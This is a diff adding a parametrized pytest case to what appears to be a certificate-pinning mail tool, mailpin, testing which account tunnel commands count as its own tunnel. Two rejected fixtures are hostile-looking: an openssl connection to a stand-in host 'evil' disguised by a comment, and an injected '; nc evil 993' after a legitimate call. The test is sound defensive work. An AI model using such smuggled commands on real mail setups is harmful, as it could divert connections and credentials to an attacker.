@@ -313,3 +313,22 @@ def test_certificates_merely_sent_along_are_not_taken_for_the_ca() -> None:
     stray = ca("z", "CN=Stray")
     live = observe(cert("1", "K"), CA_ONE, served=(stray,))
     assert policy.ca_keys(live) == {c.spki_sha256 for c in CA_ONE}
+
+
+@pytest.mark.parametrize(
+    ("transport", "key", "yes"),
+    [
+        ('tunnel "/home/me/.local/bin/mailpin" tunnel mbsync:work', "mbsync:work", True),
+        ("tunnel /usr/bin/python3 -P -m mailpin tunnel --config /home/me/.mbsyncrc mbsync:work", "mbsync:work", True),
+        ("tunnel mailpin tunnel mbsync:other", "mbsync:work", False),  # another account's profile
+        ("tunnel openssl s_client -connect evil:993 # mailpin tunnel", "mbsync:work", False),
+        ("tunnel sh -c 'mailpin tunnel mbsync:work; nc evil 993'", "mbsync:work", False),
+        ("preauth tunnel mailpin tunnel offlineimap:work", "offlineimap:work", False),  # logged in already
+        ("socket /tmp/mailpin tunnel", "msmtp:work", False),
+        ("tunnel mailpin tunnel --config", "mbsync:work", False),
+    ],
+)
+def test_only_mailpins_own_tunnel_for_this_account_counts(transport: str, key: str, yes: bool) -> None:
+    tool, _, name = key.partition(":")
+    account = Account(Tool(tool), name, Protocol.IMAP, None, None, Mode.NONE, "rc:1", transport=transport)
+    assert policy.is_mailpin_tunnel(account) is yes
